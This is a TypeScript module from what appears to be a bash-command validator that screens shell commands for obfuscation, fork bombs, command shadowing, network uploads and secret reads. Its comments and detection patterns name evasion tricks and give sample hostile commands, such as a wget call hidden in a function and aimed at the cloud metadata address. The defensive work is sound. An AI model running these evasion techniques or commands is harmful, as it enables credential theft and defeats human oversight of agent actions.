import type { CompiledPolicy } from './compile.ts';
import { argumentGlob, policyGlob, tokensIntersect, type GlobTokens } from './compile.ts';
import { ownHelpers } from './helpers.ts';
import { GrammarError, type BashGrammar } from './grammar.ts';
import type { CommandRule, VerdictKind } from './policy.ts';
import { checkDifferentials } from './differential.ts';
import { envEntry, envSetByCommand, exportedAssignments, isStartupFile, judgeEnv, runsArbitraryCode, splitEnvS, type EnvDecision, type EnvValue } from './env-table.ts';
import { checkInput } from './input.ts';
import { applyCapabilities } from './capabilities/apply.ts';
import { gitKeyEffect } from './capabilities/git-keys.ts';
import { heredocSubstitutions } from './heredoc-subst.ts';
import { remoteRunnerCode, runnerArgv } from './package-runners.ts';
import { credentialFileReads, encodes, patternArgIndex, printedSecrets, psShowsEnvironment, secretCommand, secretHunt, sinkOf, SECRET_READ_RULES } from './secrets.ts';
import { checkCode, checkInterpreter, langOf, type InterpHost } from './interp/index.ts';
import { sedExecCommand, sedSubstituteExec } from './sed.ts';
import { positionalArgs, resolveLink, resolvePath, walkScript, type Cmd, type Stdin, type Walked } from './walk.ts';
import { UNKNOWN, WordFlag, type Word } from './words.ts';
import { gitRepoStart } from './git-repos.ts';
import { execStartsLogin, otherUserLogin, shellStart, shellStartup, type StartupModel } from './startup.ts';

/** One reason the chain tightened the verdict. */
export interface Finding {
  readonly verdict: VerdictKind;
  readonly rule: string;
  readonly reason: string;
  readonly start: number;
  readonly end: number;
}

/** A place where the chain could not know what runs, reads or writes. */
export interface OpaqueSpot {
  readonly rule: string;
  readonly reason: string;
  readonly start: number;
  readonly end: number;
}

/**
 * What the chain predicts the command will do: the single source of truth
 * policy decides on and the soundness harness checks against bash.
 */
export interface EffectsAcc {
  /** Programs executed (names as run), builtins included. Shared with {@link Ctx.names}. */
  readonly exec: Set<string>;
  readonly reads: Set<string>;
  readonly writes: Set<string>;
  /** Hosts; `*` when a network tool's target is unknown. */
  readonly network: Set<string>;
  readonly opaque: OpaqueSpot[];
}

/** Shared state for one validation. */
export interface Ctx {
  readonly p: CompiledPolicy;
  readonly grammar: BashGrammar;
  readonly findings: Finding[];
  /** Wall-clock deadline; moved by {@link pastDeadline} when the process was starved rather than busy. */
  deadline: number;
  /** This thread's CPU time (µs) when validation started, and the budget it may spend (ms). */
  readonly cpuStart: number;
  readonly budgetMs: number;
  /** The wall-clock time validation started, for the hard cap on starvation extensions. */
  readonly wallStart: number;
  readonly names: Set<string>;
  readonly effects: EffectsAcc;
  /** Files this command downloads (resolved paths): executing one later in the command is running remote code. */
  readonly downloads: Set<string>;
  /** Files this command writes (resolved path → content when known statically, else null): running one runs that content. */
  readonly written: Map<string, string | null>;
  /** The command as given (top level), for questions about where a nested finding sits. */
  readonly top: string;
  /** The sandbox's shell start-up files (startup.ts); SANDBOX_STARTUP when absent. */
  readonly startup?: StartupModel;
}

/** Where findings of a (possibly nested) script are reported. */
export interface Scope {
  readonly src: string;
  readonly depth: number;
  /** For nested scripts, the span of the outer word that holds them. */
  readonly outer: { start: number; end: number } | null;
  readonly walked: Walked;
  readonly label: string;
}

export class DeadlineError extends Error {
  override name = 'DeadlineError';
}

function checkDeadline(ctx: Ctx): void {
  if (pastDeadline(ctx)) throw new DeadlineError('validation deadline exceeded');
}

/** CPU time of this thread in µs (all threads where the runtime cannot tell: stricter, never looser). */
export function threadCpuMicros(): number {
  const u = typeof process.threadCpuUsage === 'function' ? process.threadCpuUsage() : process.cpuUsage();
  return u.user + u.system;
}

/** However starved the process is, a validation never takes longer than this many budgets of wall time. */
const STARVATION_CAP = 20;

/**
 * True when the validation has spent its budget. The wall-clock deadline is the cheap check; when
 * it passes, the thread's CPU time decides: a validation that was descheduled (a loaded machine,
 * a GC in another thread) rather than busy gets the rest of its budget, up to a hard wall cap.
 * The budget bounds work an input can cause, not how busy the machine is.
 */
export function pastDeadline(ctx: Ctx): boolean {
  const now = performance.now();
  if (now <= ctx.deadline) return false;
  const usedMs = (threadCpuMicros() - ctx.cpuStart) / 1000;
  if (usedMs >= ctx.budgetMs || now - ctx.wallStart > ctx.budgetMs * STARVATION_CAP) return true;
  ctx.deadline = now + (ctx.budgetMs - usedMs);
  return false;
}

/** Parses with the remaining budget; a parse cancelled only because the process was starved is retried. */
function parseWithin(ctx: Ctx, src: string): ReturnType<BashGrammar['parse']> {
  for (;;) {
    try {
      return ctx.grammar.parse(src, Math.max(1, ctx.deadline - performance.now()));
    } catch (err) {
      if (!(err instanceof GrammarError && err.code === 'parse_cancelled') || pastDeadline(ctx)) throw err;
    }
  }
}

const RANK: Record<VerdictKind, number> = { allow: 0, ask: 1, deny: 2 };

/** Stricter of two verdicts. */
export function stricter(a: VerdictKind, b: VerdictKind): VerdictKind {
  return RANK[a] >= RANK[b] ? a : b;
}

/** Rank of a verdict (allow 0, ask 1, deny 2). */
export function rank(v: VerdictKind): number {
  return RANK[v];
}

/** Records a finding at `start..end` (or at the outer word of a nested script); the policy may re-weight it. */
export function add(ctx: Ctx, sc: Scope, verdict: VerdictKind, rule: string, reason: string, start: number, end: number): void {
  const v = ctx.p.verdictFor(rule, verdict);
  if (v === 'allow') return;
  const span = sc.outer ?? { start, end };
  ctx.findings.push({ verdict: v, rule, reason: sc.label ? `${reason} (${sc.label})` : reason, start: span.start, end: span.end });
}

/**
 * The chain cannot know what runs, reads or writes here. Recorded in
 * `effects.opaque` and as an `opaque.<kind>` finding: `ask` unless the policy
 * says `deny`; never `allow`, whatever the policy says (an unknown is not a
 * permission).
 */
export function opaque(ctx: Ctx, sc: Scope, kind: string, reason: string, start: number, end: number): void {
  const rule = `opaque.${kind}`;
  const v = stricter(ctx.p.verdictFor(rule, 'ask'), 'ask');
  const span = sc.outer ?? { start, end };
  const text = sc.label ? `${reason} (${sc.label})` : reason;
  ctx.findings.push({ verdict: v, rule, reason: text, start: span.start, end: span.end });
  ctx.effects.opaque.push({ rule, reason: text, start: span.start, end: span.end });
}

/**
 * Marks a spot the chain cannot know through an existing rule id (the finding
 * is added by the caller with `add`); keeps `effects.opaque` complete.
 */
function markOpaque(ctx: Ctx, sc: Scope, rule: string, reason: string, start: number, end: number): void {
  const span = sc.outer ?? { start, end };
  ctx.effects.opaque.push({ rule, reason, start: span.start, end: span.end });
}

/** Records a program the command will execute. */
export function recordExec(ctx: Ctx, name: string): void {
  ctx.names.add(name);
}

/** Records a path the command will read or write (resolved as far as statically known). */
export function recordPath(ctx: Ctx, access: 'read' | 'write', path: string): void {
  (access === 'read' ? ctx.effects.reads : ctx.effects.writes).add(path);
}

/** Records a host the command may contact (`*`: unknown). */
export function recordNet(ctx: Ctx, host: string): void {
  ctx.effects.network.add(host);
}

/**
 * Parses `src` and records findings for every command it would run. Nested
 * scripts (`bash -c '…'`, `eval`, heredocs fed to shells) recurse here with
 * `depth + 1` and report at `outer`.
 */
export function analyzeScript(ctx: Ctx, src: string, depth: number, outer: { start: number; end: number } | null, label: string, cwd: string | null): void {
  checkDeadline(ctx);
  const pol = ctx.p.policy;
  const at = outer ?? { start: 0, end: src.length };
  if (depth > pol.validation.maxDepth) {
    ctx.findings.push({ verdict: 'deny', rule: 'parse.depth_limit', reason: `nested scripts deeper than ${pol.validation.maxDepth} levels`, ...at });
    return;
  }
  if (depth > 0) {
    // Nested strings get the same input checks as the top level.
    for (const f of checkInput(src, pol.validation.maxInputBytes)) ctx.findings.push({ ...f, start: at.start, end: at.end });
  }
  let parsed = parseWithin(ctx, src);
  let repaired = false;
  if (parsed.hasError && src.includes('``')) {
    // tree-sitter-bash rejects an empty backtick pair inside "…", which bash
    // accepts (it expands to nothing). Re-parse with `""` in its place (same
    // length, so spans hold) and ask a person, since this is a parser gap.
    const fixed = src.replace(/(?<!\\)``/g, '""');
    const retry = parseWithin(ctx, fixed);
    if (!retry.hasError) {
      parsed = retry;
      repaired = true;
    }
  }
  if (parsed.hasError && src.includes('<>')) {
    // tree-sitter-bash has no `<>` (open read-write) redirection, which bash has. `>|` has the same
    // length (spans hold) and, for the analysis, the same meaning: the target is opened for writing.
    const fixed = readWriteRedirectsAsWrites(src);
    if (fixed !== src) {
      const retry = parseWithin(ctx, fixed);
      if (!retry.hasError) parsed = retry;
    }
  }
  if (parsed.hasError) {
    ctx.findings.push({
      verdict: 'deny', rule: 'parse.error',
      reason: depth > 0 ? `nested script does not parse as bash (${label})` : 'command does not parse as bash (syntax error or unsupported construct)',
      start: at.start, end: at.end,
    });
    return;
  }
  const walked = walkScript(parsed.root, src, cwd);
  const sc: Scope = { src, depth, outer, walked, label };
  if (repaired) add(ctx, sc, 'ask', 'parse.repaired', 'empty backtick pair inside double quotes: parsed with a workaround', 0, src.length);
  for (const cmd of walked.cmds) checkCmd(ctx, sc, cmd);
  if (walked.loops.length > 0) loopBindings(ctx, sc);
  checkDifferentials(src, walked, {
    report: (verdict, rule, reason, start, end) => (rule.startsWith('opaque.') ? opaque(ctx, sc, rule.slice(7), reason, start, end) : add(ctx, sc, verdict, rule, reason, start, end)),
    nested: (text, start, end, label) => analyzeScript(ctx, text, depth + 1, outer ?? { start, end }, label, cwd),
  });
  for (const fn of walked.functions) checkFunction(ctx, sc, fn);
  for (const l of walked.endlessLoops) add(ctx, sc, 'ask', 'resource.endless_loop', 'loop with no exit condition', l.start, l.end);
}

/**
 * Rewrites each unquoted `<>` operator (optionally after a fd number) to `>|`. Quoted text and
 * backslash-escaped characters are left alone; heredoc bodies are text and keep their `<>`
 * only if they sit inside quotes, which is enough: the result is used only when it parses.
 */
function readWriteRedirectsAsWrites(src: string): string {
  let out = '';
  let quote: '"' | "'" | null = null;
  for (let i = 0; i < src.length; i++) {
    const c = src[i]!;
    if (quote === "'") {
      if (c === "'") quote = null;
      out += c;
      continue;
    }
    if (c === '\\') {
      out += c + (src[i + 1] ?? '');
      i++;
      continue;
    }
    if (quote === '"') {
      if (c === '"') quote = null;
      out += c;
      continue;
    }
    if (c === "'" || c === '"') quote = c;
    if (c === '<' && src[i + 1] === '>' && src[i - 1] !== '<') {
      out += '>|';
      i++;
      continue;
    }
    out += c;
  }
  return out;
}

// ---------------------------------------------------------------------------
// Command lists

const KNOWN_COMMANDS = new Set([
  'ls', 'cd', 'cat', 'echo', 'printf', 'git', 'rm', 'cp', 'mv', 'sudo', 'su', 'sh', 'bash', 'zsh', 'python', 'python3', 'node',
  'npm', 'pip', 'pip3', 'curl', 'wget', 'ssh', 'grep', 'find', 'sed', 'awk', 'head', 'tail', 'less', 'more', 'chmod', 'chown',
  'kill', 'ps', 'env', 'id', 'whoami', 'make', 'test', 'true', 'false', 'tar', 'docker', 'kubectl', 'mkdir', 'touch', 'ln', 'pwd',
  'which', 'type', 'command', 'exec', 'eval', 'source', 'export', 'read', 'dd', 'tee', 'xargs', 'sort', 'uniq', 'wc', 'cut', 'tr',
  'diff', 'patch', 'vi', 'vim', 'nano', 'code', 'go', 'cargo', 'rustc', 'gcc', 'clang', 'java', 'javac', 'mvn', 'gradle', 'yarn',
  'pnpm', 'npx', 'bun', 'deno', 'perl', 'ruby', 'php', 'apt', 'apt-get', 'brew', 'systemctl', 'service', 'mount', 'nc', 'openssl',
  'base64', 'gpg', 'ssh-keygen', 'scp', 'rsync', 'zip', 'unzip', 'gzip', 'gunzip', 'jq', 'rg', 'fd', 'pytest', 'tox', 'uv',
  'poetry', 'pipenv', 'conda', 'alias', 'unalias', 'history', 'clear', 'exit', 'logout', 'passwd', 'login', 'cron', 'crontab',
  'command_not_found_handle', 'cd', 'pushd', 'popd', 'dirs', 'set', 'unset', 'shopt', 'trap', 'wait', 'jobs', 'fg', 'bg', 'time',
]);

const WRAPPER_OPTS_FIRST = new Set(['sudo', 'doas', 'sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'fish', 'csh', 'tcsh']);
const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'fish', 'csh', 'tcsh', 'rbash', 'yash', 'posh', 'oksh', 'loksh']);

const DECODERS: Record<string, RegExp | null> = {
  base64: /^(-[a-zA-Z]*[dD][a-zA-Z]*|--decode)$/,
  base32: /^(-[a-zA-Z]*d[a-zA-Z]*|--decode)$/,
  basenc: /^(-[a-zA-Z]*d[a-zA-Z]*|--decode)$/,
  base58: null,
  xxd: /^-[a-zA-Z]*r/,
  uudecode: null,
  rev: null,
  tr: null,
  openssl: /^(enc|base64|-d|-base64)$/,
  gunzip: null,
  zcat: null,
  gzip: /^-[a-zA-Z]*d/,
  bzip2: /^-[a-zA-Z]*d/,
  xz: /^-[a-zA-Z]*d/,
  unxz: null,
  rot13: null,
  caesar: null,
};

/** Options whose value is text, not a path (`-m "message"`). */
const TEXT_OPTIONS = new Set(['-m', '--message', '-t', '--title', '-b', '--body', '--description', '-e', '--eval', '-c', '--command', '-p', '--print']);
const METADATA_ONLY = new Set(['echo', 'printf', 'cd', 'pushd', 'mkdir', 'basename', 'dirname', 'which', 'type', 'true', 'false', ':', 'export', 'local', 'declare', 'typeset', 'readonly']);
const ENV_SOFT_READ = new Set(['ls', 'stat', 'test', '[', 'find', 'du', 'file', 'wc', 'touch', 'mkdir', 'cp', 'git', 'rm', 'mv', 'chmod', 'diff', 'realpath', 'readlink']);

const EVAL_SAFE = /^(\S*\/)?(brew\s+shellenv|pyenv\s+(virtualenv-)?init|rbenv\s+init|nodenv\s+init|goenv\s+init|jenv\s+init|conda\s+shell\.\w+\s+hook|direnv\s+(hook|export)|ssh-agent|fnm\s+env|zoxide\s+init|starship\s+init|mise\s+(activate|env)|rtx\s+activate|opam\s+env|luarocks\s+path|dircolors|keychain|gpg-agent|thefuck\s+--alias|pdm\s+--pep582|poetry\s+env\s+activate)\b/;

const INTERP_RE = /^(python[0-9.]*|pypy[0-9.]*|node|nodejs|deno|bun|perl[0-9.]*|ruby[0-9.]*|irb|php[0-9.]*|lua[0-9.]*|luajit|Rscript|R|jshell|groovy|scala|julia|osascript|pwsh|powershell|tclsh|wish|expect|gawk|awk|mawk|nawk|busybox-awk|jjs|kotlinc|gdb)$/;

// Command names repeat: remember which ones are interpreters.
const interpreterNames = new Map<string, boolean>();
function isInterpreter(name: string): boolean {
  let r = interpreterNames.get(name);
  if (r === undefined) {
    r = INTERP_RE.test(name);
    if (interpreterNames.size < 4096) interpreterNames.set(name, r);
  }
  return r;
}

const POPULAR_PACKAGES = new Set([
  'requests', 'numpy', 'pandas', 'django', 'flask', 'pytest', 'setuptools', 'urllib3', 'boto3', 'botocore', 'python-dateutil',
  'pyyaml', 'certifi', 'charset-normalizer', 'typing-extensions', 'cryptography', 'jinja2', 'markupsafe', 'pillow', 'scipy',
  'matplotlib', 'scikit-learn', 'tensorflow', 'torch', 'beautifulsoup4', 'selenium', 'sqlalchemy', 'pydantic', 'fastapi', 'uvicorn',
  'httpx', 'aiohttp', 'colorama', 'click', 'black', 'flake8', 'pylint', 'isort', 'coverage', 'virtualenv', 'wheel', 'psycopg2',
  'pymysql', 'celery', 'openai', 'anthropic', 'transformers', 'langchain', 'packaging', 'docutils', 'sphinx', 'jmespath',
  'protobuf', 'grpcio', 'paramiko', 'pyjwt', 'bcrypt', 'werkzeug', 'gunicorn', 'tornado', 'twisted', 'scrapy', 'networkx', 'sympy',
  'nltk', 'opencv-python', 'seaborn', 'plotly', 'keras', 'jupyter', 'ipython', 'notebook', 'xgboost', 'lightgbm', 'lodash',
  'react', 'react-dom', 'express', 'axios', 'chalk', 'commander', 'moment', 'request', 'underscore', 'bluebird', 'webpack',
  'typescript', 'eslint', 'prettier', 'mocha', 'vite', 'rollup', 'dotenv', 'mongoose', 'socket.io', 'jquery', 'yargs',
  'inquirer', 'rimraf', 'mkdirp', 'minimist', 'semver', 'colors', 'node-fetch', 'redux', 'styled-components', 'tailwindcss',
  'nodemon', 'winston', 'cross-env', 'electron', 'vitest', 'playwright', 'puppeteer', 'crypto-js', 'bs4', 'discord.py',
]);
const NOT_TYPOSQUATS = new Set(['preact', 'redis', 'redux', 'pytest', 'jest', 'vitest', 'mypy', 'black', 'flask', 'tomli', 'tomlkit', 'httpie', 'pyjwt', 'jwt', 'pillow', 'colors', 'colorama', 'moment', 'momentjs', 'react-is', 'eslint', 'tslint', 'pylint', 'pyright', 'ruff', 'numba', 'numpy', 'scipy', 'sympy', 'pipx', 'pydantic', 'requests-mock', 'chai', 'axios', 'yarn', 'pnpm', 'rollup', 'commander', 'request', 'requests', 'torch', 'torchvision']);


const NET_UPLOAD = /^(-d|--data|--data-binary|--data-raw|--data-urlencode|--data-ascii|-F|--form|--form-string|-T|--upload-file|--post-file|--body-file|--json)(=|$)/;

// ---------------------------------------------------------------------------

/**
 * `f(){ wget "$@"; }; f -qO- http://169.254.169.254/…`: the body was analysed with its positional
 * parameters unknown; a call with literal arguments runs the body with them, so the body is analysed
 * again with the call's words in place of `$@`, `$*` and `$1`…`$9`.
 */
function callsFunction(ctx: Ctx, sc: Scope, cmd: Cmd, name: string | null): void {
  if (!name || cmd.inFunction) return;
  const fn = sc.walked.functions.find((f) => f.name === name);
  if (!fn || cmd.start >= fn.start && cmd.end <= fn.end) return;
  const text = sc.src.slice(fn.start, fn.end);
  // Skip the header (`f()`, `function f`, `function f()`): the body is the compound command after it.
  const header = /^\s*(?:function\s+)?[^\s(){}]+\s*(?:\(\s*\))?\s*/.exec(text)?.[0].length ?? 0;
  const open = text.slice(header).search(/[{(]/) + header;
  const close = Math.max(text.lastIndexOf('}'), text.lastIndexOf(')'));
  if (open < header || close <= open) return;
  let body = text.slice(open + 1, close);
  if (!/\$(\{?[@*1-9#]\}?)/.test(body)) return;
  const args = cmd.args.map((a) => a.raw);
  const all = args.join(' ');
  body = body
    .replace(/"\$(\{[@*]\}|[@*])"/g, all)
    .replace(/\$(\{[@*]\}|[@*])/g, all)
    .replace(/"?\$\{?([1-9])\}?"?/g, (_m, d: string) => args[Number(d) - 1] ?? "''")
    .replace(/\$\{?#\}?/g, String(args.length));
  // The call's redirections apply to everything the body writes (`f 'payload' >> Makefile`).
  const redirects = cmd.redirects.map((r) => sc.src.slice(r.start, r.end)).join(' ');
  if (redirects) body = `{ ${body}\n} ${redirects}`;
  analyzeScript(ctx, body, sc.depth + 1, sc.outer ?? { start: cmd.start, end: cmd.end }, `function ${name} called with its arguments`, cmd.cwd);
}

/**
 * `alias ff=curl` then `ff -s http://h/`: bash replaces an unquoted command name that is an alias by the
 * alias text before it parses the rest, so the call is analysed as that text followed by the call's words
 * (without it, `ff`'s network use and programs were unpredicted). Every literal alias defined earlier in the
 * script counts, whether or not `expand_aliases` is on: predicting more is the safe side.
 */
function callsAlias(ctx: Ctx, sc: Scope, cmd: Cmd, name: Word): void {
  if (name.value === null || name.raw !== name.value || cmd.inFunction) return;
  let body: string | null = null;
  for (const c of sc.walked.cmds) {
    if (c.start >= cmd.start || c.name?.value !== 'alias') continue;
    for (const a of c.args) {
      const m = /^([^=]+)=(.*)$/s.exec(a.value ?? '');
      if (m && m[1] === name.value) body = m[2]!;
    }
  }
  if (body === null) return;
  const text = `${body} ${sc.src.slice(name.end, cmd.end)}`;
  analyzeScript(ctx, text, sc.depth + 1, sc.outer ?? { start: cmd.start, end: cmd.end }, `alias ${name.value} expanded`, cmd.cwd);
}

function checkFunction(ctx: Ctx, sc: Scope, fn: Walked['functions'][number]): void {
  const selfCall = fn.body.some((c) => c.name?.value === fn.name);
  if (selfCall && fn.backgroundsOrPipes) {
    add(ctx, sc, 'deny', 'resource.fork_bomb', `function ${fn.name} calls itself in a pipe or in the background (fork bomb)`, fn.start, fn.end);
  } else if (fn.name === 'command_not_found_handle' || fn.name.startsWith('BASH_') || KNOWN_COMMANDS.has(fn.name)) {
    add(ctx, sc, 'deny', 'shell.function_shadowing', `function redefines "${fn.name}", so later commands run different code than they appear to`, fn.start, fn.end);
  }
}

/** Unquoted heredoc bodies: the substitutions bash runs in them, analysed as what runs (see heredoc-subst.ts). */
function heredocBodies(ctx: Ctx, sc: Scope, cmd: Cmd): void {
  for (const r of cmd.redirects) {
    if (r.kind !== 'heredoc' || !r.expands || !r.text || !/[`$]/.test(r.text)) continue;
    const subs = heredocSubstitutions(r.text);
    if (subs === null) {
      opaque(ctx, sc, 'differential', 'heredoc body with a command substitution that does not close the way the parser read it', r.start, r.end);
      continue;
    }
    for (const text of subs) analyzeScript(ctx, text, sc.depth + 1, sc.outer ?? { start: r.start, end: r.end }, 'command substitution in a heredoc body', cmd.cwd);
  }
}

function checkCmd(ctx: Ctx, sc: Scope, cmd: Cmd): void {
  heredocBodies(ctx, sc, cmd);
  for (const a of cmd.assigns) checkAssign(ctx, sc, cmd, a.name, a.value, a.start, a.end);
  const writes: Word[] = [];
  for (const r of cmd.redirects) {
    if (r.target) {
      checkWord(ctx, sc, r.target);
      const isWrite = r.kind === 'file' && (/>/.test(r.op) && !(r.op === '>&' && /^\d+$|^-$/.test(r.target.value ?? '')));
      if (isWrite) writes.push(r.target);
      else if (r.kind === 'file' && r.op.startsWith('<') && !/^\d+$|^-$/.test(r.target.value ?? '')) checkPaths(ctx, sc, cmd, r.target, 'read', 'redirect');
      // `<>` opens for reading and writing (parsed as `>|`, see readWriteRedirectsAsWrites): also a read.
      if (r.kind === 'file' && (r.op === '<>' || (r.op === '>|' && sc.src.slice(r.start, r.end).includes('<>')))) {
        if (r.op === '<>') writes.push(r.target);
        if (!/^\d+$|^-$/.test(r.target.value ?? '')) checkPaths(ctx, sc, cmd, r.target, 'read', 'redirect');
      }
    }
  }
  for (const w of writes) checkPaths(ctx, sc, cmd, w, 'write', 'redirect');
  noteWrittenFiles(ctx, sc, cmd);
  if (cmd.kind === 'redirect' && writes.length > 0) hungRedirectPayload(ctx, sc, cmd, writes);
  if (cmd.kind === 'redirect' || cmd.kind === 'assignment') {
    for (const a of cmd.args) checkWord(ctx, sc, a);
    if (cmd.kind === 'assignment' && cmd.name === null && cmd.redirects.length === 0 && cmd.assigns.length === 0) return;
    return;
  }
  if (cmd.glued) {
    add(ctx, sc, 'deny', 'parse.differential', 'words run together in a way bash and the validator read differently (quote or substitution splicing)', cmd.start, cmd.end);
  }
  const name = cmd.name;
  if (!name) return;
  if (cmd.kind === 'declaration' || cmd.kind === 'unset') {
    checkDeclaration(ctx, sc, cmd, name.value ?? '');
    return;
  }
  callsFunction(ctx, sc, cmd, name.value);
  callsAlias(ctx, sc, cmd, name);
  if (!checkCommandWord(ctx, sc, cmd, name)) {
    for (const a of cmd.args) checkWord(ctx, sc, a);
    return;
  }
  analyzeArgv(ctx, sc, cmd, name.value!, name, cmd.args, writes, []);
}

/** Checks the spelling of a command name. Returns false when the name cannot be known statically. */
export function checkCommandWord(ctx: Ctx, sc: Scope, cmd: Cmd, name: Word): boolean {
  const f = name.flags;
  if (name.vars.includes('IFS')) add(ctx, sc, 'deny', 'obfuscation.ifs', 'uses $IFS inside the command word (classic way to hide spaces)', name.start, name.end);
  if (f & (WordFlag.indirect | WordFlag.transform)) {
    add(ctx, sc, 'deny', 'obfuscation.indirect_expansion', 'command name built by indirect expansion (${!x} or ${x@P})', name.start, name.end);
    return false;
  }
  if (f & WordFlag.ansiC) {
    add(ctx, sc, 'deny', 'obfuscation.ansi_c_quote', `command name spelled with $'…' escapes (decodes to "${name.value ?? '?'}")`, name.start, name.end);
    return name.value !== null;
  }
  if (name.value === null) {
    const onlyVar = /^"?\$\{?[A-Za-z_][A-Za-z0-9_]*\}?"?$/.test(name.raw);
    const v = name.vars[0] ?? '';
    if (f & WordFlag.substitution) {
      add(ctx, sc, 'deny', 'obfuscation.dynamic_command', 'command name comes from a command substitution', name.start, name.end);
    } else if (f & WordFlag.positional) {
      add(ctx, sc, 'deny', 'obfuscation.dynamic_command', 'command name comes from positional parameters or an array ("$@", "${a[@]}")', name.start, name.end);
    } else if (onlyVar && !sc.walked.assigned.has(v)) {
      add(ctx, sc, 'ask', 'obfuscation.variable_command', `command name is the value of $${v}, unknown until run time`, name.start, name.end);
      markOpaque(ctx, sc, 'obfuscation.variable_command', `command name is the value of $${v}`, name.start, name.end);
    } else {
      add(ctx, sc, 'deny', 'obfuscation.dynamic_command', 'command name is assembled from variables at run time', name.start, name.end);
    }
    return false;
  }
  if (f & WordFlag.glob) {
    add(ctx, sc, 'deny', 'obfuscation.glob_command', `command name is a glob pattern ("${name.raw}")`, name.start, name.end);
    return true;
  }
  if (f & WordFlag.splice && /^[\w./-]+$/.test(name.value)) {
    add(ctx, sc, 'deny', 'obfuscation.quote_splice', `command name spliced from quoted pieces ("${name.raw}" runs ${name.value})`, name.start, name.end);
  } else if (f & WordFlag.escape && /^[\w./-]+$/.test(name.value) && !/\\\s/.test(name.raw)) {
    // Allowed by default: the escapes are removed before the name is analysed (`\rm` is rm and
    // meets rm's rules), agents write `\rm -f` to skip `rm -i` aliases, and Windows-style
    // paths (`.\venv\Scripts\python.exe`) are just names bash cannot find. A policy can raise it.
    add(ctx, sc, 'allow', 'obfuscation.escaped_command', `command name written with backslashes ("${name.raw}"), bypassing aliases and naive checks`, name.start, name.end);
  }
  if (name.value.includes('{') && name.value.includes(',')) {
    add(ctx, sc, 'deny', 'obfuscation.brace_expansion', 'command built by brace expansion', name.start, name.end);
  }
  if (/[^\x20-\x7e]/.test(name.value)) {
    add(ctx, sc, 'deny', 'input.homoglyph', `command name contains non-ASCII characters ("${name.value}") that can imitate another command`, name.start, name.end);
  }
  return true;
}

function checkAssign(ctx: Ctx, sc: Scope, cmd: Cmd, nameStr: string, value: Word | null, start: number, end: number): void {
  if (value) checkWord(ctx, sc, value);
  const val = value ? (value.value ?? value.raw) : '';
  const cmdName = cmd.name?.value ?? '';
  // `IFS= read -r line` is the standard idiom for reading lines.
  if (nameStr === 'IFS' && (cmdName === 'read' || cmdName === 'mapfile' || cmdName === 'readarray')) return;
  const ev: EnvValue = value ? { text: value.value, raw: value.raw } : { text: '', raw: '' };
  applyEnv(ctx, sc, cmd, judgeEnv(nameStr, ev, envContext(ctx, sc, cmd)), start, end);
  for (const { rule, names, value: vre } of ctx.p.envRules) {
    if (!names.test(nameStr)) continue;
    if (vre && !vre.test(val)) continue;
    add(ctx, sc, rule.verdict, rule.id, `${rule.reason}: ${nameStr}=${truncate(val, 60)}`, start, end);
  }
}

function envContext(ctx: Ctx, sc: Scope, cmd: Cmd): Parameters<typeof judgeEnv>[2] {
  return {
    cwd: cmd.cwd,
    workspace: ctx.p.policy.workspace,
    sibling(n) {
      for (const c of sc.walked.cmds) {
        for (const a of c.assigns) if (a.name === n) return a.value ? { text: a.value.value, raw: a.value.raw } : { text: '', raw: '' };
        for (const w of c.args) if (w.value?.startsWith(n + '=')) return { text: w.value.slice(n.length + 1), raw: w.raw };
      }
      return undefined;
    },
  };
}

/** Turns env-table decisions into findings; command values are analysed as the nested command a tool will run. */
function applyEnv(ctx: Ctx, sc: Scope, cmd: Cmd, decisions: readonly EnvDecision[], start: number, end: number): void {
  for (const d of decisions) {
    if (d.kind === 'finding') add(ctx, sc, d.verdict, d.rule, d.reason, start, end);
    else if (d.kind === 'opaque') opaque(ctx, sc, d.opaque, d.reason, start, end);
    else {
      const before = ctx.findings.length;
      const ran = namesRun(ctx, () => nestedText(ctx, sc, cmd, d.text, { start, end }, d.label));
      const bad = ran.find(runsArbitraryCode);
      if (bad !== undefined) add(ctx, sc, d.verdict, d.rule, `${d.reason}; it runs ${bad} (${truncate(d.text, 50)})`, start, end);
      // What the value does could not be known (an unknown option, code in a tool's language): so is the variable.
      else if (ctx.findings.slice(before).some((f) => f.rule.startsWith('opaque.'))) opaque(ctx, sc, 'env_value', `${d.label}: what it makes the tool do is not known (${truncate(d.text, 50)})`, start, end);
      const raised = d.raise ? ctx.findings.slice(before).filter((f) => f.verdict !== 'allow') : [];
      if (raised.length > 0) add(ctx, sc, raised.some((f) => f.verdict === 'deny') ? 'deny' : 'ask', d.rule, `${d.reason}: ${truncate(d.text.replace(/^: >> /, ''), 50)}`, start, end);
    }
  }
}

/** Programs a nested analysis predicts will run (effects.exec keeps its order). */
function namesRun(ctx: Ctx, analyse: () => void): string[] {
  const exec = ctx.effects.exec;
  const before = [...exec];
  exec.clear();
  let ran: string[] = [];
  try {
    analyse();
  } finally {
    ran = [...exec];
    exec.clear();
    for (const n of before) exec.add(n);
    for (const n of ran) exec.add(n);
  }
  return ran;
}

/**
 * Words of `export`/`declare -x` that the grammar does not see as assignments:
 * `export "X=v"` (bash still assigns), `export $name=v` (the name is only known
 * at run time), and `export X` of a variable set by other means (`printf -v`,
 * `read`) or inherited.
 */
function exportedWords(ctx: Ctx, sc: Scope, cmd: Cmd): void {
  for (const a of gluedWords(cmd.args)) {
    const v = a.value;
    if (v !== null && v.startsWith('-')) continue;
    const m = v === null ? null : /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(v);
    if (m) checkAssign(ctx, sc, cmd, m[1]!, { ...a, value: m[2]!, raw: m[2]! }, a.start, a.end);
    else if (v !== null && /^[^=]*[{}*?[][^=]*=/.test(v)) exportedPattern(ctx, sc, cmd, a, v);
    else if (v === null && /^[^=]*\$[^=]*=/.test(a.raw)) opaque(ctx, sc, 'env_value', `exports a variable whose name is only known at run time (${truncate(a.raw, 40)})`, a.start, a.end);
    else if (v !== null && /^[A-Za-z_][A-Za-z0-9_]*$/.test(v) && !sc.walked.assigned.has(v) && setOtherwise(sc, cmd, v)) {
      applyEnv(ctx, sc, cmd, judgeEnv(v, { text: null, raw: `$${v}` }, envContext(ctx, sc, cmd)), a.start, a.end);
    }
  }
}

/**
 * Arguments with nothing between them are one word to bash. tree-sitter-bash splits a declaration's
 * `LD{_PRELOAD,Y}=v` into `LD` and `{_PRELOAD,Y}=v` (a parser differential); joined again here.
 */
function gluedWords(args: readonly Word[]): Word[] {
  const out: Word[] = [];
  for (const a of args) {
    const prev = out[out.length - 1];
